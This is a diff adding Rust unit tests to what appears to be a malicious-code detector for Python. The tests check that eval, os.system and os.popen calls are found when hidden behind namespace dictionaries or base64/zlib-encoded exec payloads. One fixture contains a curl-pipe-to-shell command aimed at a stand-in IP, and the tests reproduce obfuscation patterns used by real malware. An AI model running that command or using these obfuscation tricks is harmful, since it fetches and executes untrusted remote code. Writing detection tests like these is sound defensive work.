@@ -139,3 +139,37 @@ fn chr_joins_count_as_encoding_and_modules_resolve_without_imports() {
     let g = analyse("def app():\n    requests.get('http://x')\n");
     assert!(call_names(&g).contains(&"requests.get"));
 }
+
+#[test]
+fn resolves_namespace_dicts() {
+    // Issue 11: `vars(__builtins__)['eval']`, `os.__dict__['system']`, `vars(os)['popen']`.
+    let f =
+        analyse("import os\nvars(__builtins__)['eval']('1')\nos.__dict__['system']('id')\nvars(os)['popen']('ls')\n");
+    let names = call_names(&f);
+    for want in ["eval", "os.system", "os.popen"] {
+        assert!(names.contains(&want), "{want} not in {names:?}");
+    }
+}
+
+#[test]
+fn follows_reassignments_through_decoders() {
+    // Issue 11: `x = b64decode(...); exec(x)` and `Z=b64(Z); Z=zlib(Z); exec(Z)`.
+    let inner = "import os\nos.system('curl http://198.51.100.7/x | sh')\n";
+    use base64::Engine;
+    let b64 = base64::engine::general_purpose::STANDARD.encode(inner);
+    let f = analyse(&format!("import base64\nx = base64.b64decode('{b64}')\nexec(x)\n"));
+    assert!(
+        f.payloads.iter().any(|p| p.sink == Sink::Exec && p.code.is_some()),
+        "{:?}",
+        f.payloads
+    );
+    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
+    std::io::Write::write_all(&mut z, inner.as_bytes()).unwrap();
+    let blob = base64::engine::general_purpose::STANDARD.encode(z.finish().unwrap());
+    let f = analyse(&format!(
+        "import base64, zlib\nZ = '{blob}'\nZ = base64.b64decode(Z)\nZ = zlib.decompress(Z)\nexec(Z)\n"
+    ));
+    let p = f.payloads.iter().find(|p| p.sink == Sink::Exec).expect("exec payload");
+    assert_eq!(p.steps, vec!["base64", "zlib"]);
+    assert!(call_names(p.code.as_ref().unwrap()).contains(&"os.system"));
+}
